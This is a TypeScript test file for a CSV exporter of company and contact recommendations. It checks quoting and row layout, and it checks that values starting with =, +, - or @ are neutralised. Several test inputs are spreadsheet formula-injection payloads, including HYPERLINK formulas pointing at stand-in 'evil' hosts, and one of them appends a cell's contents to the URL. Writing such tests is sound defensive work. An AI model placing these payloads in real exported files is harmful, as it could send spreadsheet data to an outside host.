import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { RecommendedCompany } from '#contract/recommendations.ts';
import { recommendationsCsv } from './recommendations-csv.ts';

/** A reader of RFC 4180, written apart from the writer. */
function parse(csv: string): string[][] {
  const rows: string[][] = [];
  let cells: string[] = [];
  let cell = '';
  let within = false;
  for (let at = 0; at < csv.length; at++) {
    const sign = csv[at];
    if (within) {
      if (sign !== '"') cell += sign;
      else if (csv[at + 1] === '"') {
        cell += '"';
        at++;
      } else within = false;
    } else if (sign === '"') within = true;
    else if (sign === ',') {
      cells.push(cell);
      cell = '';
    } else if (sign === '\r' && csv[at + 1] === '\n') {
      rows.push([...cells, cell]);
      cells = [];
      cell = '';
      at++;
    } else cell += sign;
  }
  expect([within, cells, cell]).toEqual([false, [], '']);
  return rows;
}

const at = new Date('2026-05-12T09:00:00Z');
const csvOf = (companies: readonly RecommendedCompany[]) =>
  recommendationsCsv([{ companies, at, current: true }]);

function tableOf(companies: readonly RecommendedCompany[]) {
  return rowsOf(csvOf(companies));
}

function rowsOf(csv: string) {
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  const [head = [], ...rows] = parse(csv.slice(1));
  return rows.map((cells) => {
    expect(cells).toHaveLength(head.length);
    return Object.fromEntries(head.map((heading, index) => [heading, cells[index] ?? '']));
  });
}

test('one row per person, with the company in each', () => {
  const company: RecommendedCompany = {
    name: 'Müller, Söhne & "Co"',
    domain: 'mueller.example',
    employeeCount: 120,
    hqCountry: 'Germany',
    industries: ['Software', 'SaaS'],
    linkedInURL: 'https://linkedin.example/company/1',
    recommendation: {
      reasons: [{ title: 'Industry match', shortDescription: 'Software' }, { type: 'SIZE' }],
    },
    people: [
      { firstName: 'Ana', lastName: 'Łuczak', jobTitle: 'CTO', seniorities: ['C-Level'] },
      { firstName: 'Bo', linkedinUrl: 'https://linkedin.example/in/bo' },
    ],
  };
  const rows = tableOf([company]);
  expect(rows).toHaveLength(2);
  expect(rows[0]).toEqual({
    Company: 'Müller, Söhne & "Co"',
    Domain: 'mueller.example',
    Employees: '120',
    Headquarters: 'Germany',
    Industries: 'Software; SaaS',
    'Company LinkedIn': 'https://linkedin.example/company/1',
    Reasons: 'Industry match: Software; SIZE',
    'First name': 'Ana',
    'Last name': 'Łuczak',
    'Job title': 'CTO',
    Seniorities: 'C-Level',
    Departments: '',
    Country: '',
    LinkedIn: '',
    Fetched: '2026-05-12T09:00:00.000Z',
    'ICP version': 'current',
  });
  expect(rows[1]).toMatchObject({
    Domain: 'mueller.example',
    LinkedIn: 'https://linkedin.example/in/bo',
  });
});

test('each row says when it was fetched, and whether for the ICP that is saved now', () => {
  const later = new Date('2026-05-13T09:00:00Z');
  const csv = recommendationsCsv([
    { companies: [{ name: 'Acme' }], at, current: false },
    { companies: [{ name: 'Beta' }], at: later, current: true },
  ]);
  expect(rowsOf(csv).map((row) => [row['Company'], row['Fetched'], row['ICP version']])).toEqual([
    ['Acme', at.toISOString(), 'earlier'],
    ['Beta', later.toISOString(), 'current'],
  ]);
});

test('companies without people, or without anything, have one row', () => {
  const rows = tableOf([{}, { name: 'Acme', people: [] }, { people: null, size: '11-50' }]);
  expect(rows.map((row) => [row['Company'], row['Employees']])).toEqual([
    ['', ''],
    ['Acme', ''],
    ['', '11-50'],
  ]);
});

test.each([
  ['=HYPERLINK("https://evil.example")'],
  ['+1'],
  ['-1+cmd'],
  ['@SUM(A1)'],
  ['  =1'],
  ['\n'],
  ['＝1'],
])('%j is text, not a formula', (name) => {
  expect(tableOf([{ name }])[0]?.['Company']).toBe(`'${name}`);
});

test.each([
  ['CTO;=HYPERLINK("http://evil"&A1)', `CTO;'=HYPERLINK("http://evil"&A1)`],
  ['CTO; +1', "CTO;' +1"],
  ['CTO;"=1', `CTO;'"=1`],
  ['CTO\n-1', "CTO\n'-1"],
  ['CTO\t@A1', "CTO\t'@A1"],
  ['\t=1', "'\t'=1"],
  ['\r=1', "'\r'=1"],
  ['CTO;;＝1;=2', "CTO;;'＝1;'=2"],
  ['C-Level; R&D - x@y', 'C-Level; R&D - x@y'],
])('%j is text too where semicolons or tabs part the cells', (title, expected) => {
  expect(tableOf([{ people: [{ jobTitle: title }] }])[0]?.['Job title']).toBe(expected);
});

test('what is joined in a cell is text there too', () => {
  const industries = ['Software', '=1'];
  expect(tableOf([{ industries }])[0]?.['Industries']).toBe("Software;' =1");
});

const text = fc.option(
  fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: fc.constantFrom(...'=+-@",;\r\n\t a') }),
  ),
  { nil: undefined },
);

test('whatever the texts are, they come back, and none is a formula', () => {
  const person = fc.record({ firstName: text, jobTitle: text });
  const company = fc.record({
    name: text,
    people: fc.option(fc.array(person, { maxLength: 3 }), { nil: null }),
  });
  fc.assert(
    fc.property(fc.array(company, { maxLength: 4 }), (companies) => {
      const rows = tableOf(companies);
      const expected = companies.flatMap(({ name, people }) =>
        (people?.length ? people : [{ firstName: undefined, jobTitle: undefined }]).map((one) => [
          name,
          one.firstName,
          one.jobTitle,
        ]),
      );
      expect(rows).toHaveLength(expected.length);
      for (const [index, row] of rows.entries()) {
        const cells = [row['Company'], row['First name'], row['Job title']];
        for (const [at, cell = ''] of cells.entries()) {
          const original = expected[index]?.[at] ?? '';
          expect(cell.replaceAll("'", '')).toBe(original.replaceAll("'", ''));
          expect(cell).not.toMatch(/^\s*[=+\-@]/);
        }
      }
    }),
  );
});

test('however the file is cut, no piece of it is a formula', () => {
  const company = fc.record({
    name: text,
    industries: fc.option(fc.array(fc.string({ unit: fc.constantFrom(...'=-;" a') })), {
      nil: null,
    }),
    people: fc.array(fc.record({ jobTitle: text }), { maxLength: 2 }),
  });
  fc.assert(
    fc.property(fc.array(company, { maxLength: 3 }), (companies) => {
      // The worst reader: it cuts at every semicolon, tab and end of line, and sees no quotes.
      for (const piece of csvOf(companies)
        .slice(1)
        .split(/[;\t\r\n]/)) {
        expect(piece).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/u);
      }
    }),
  );
});
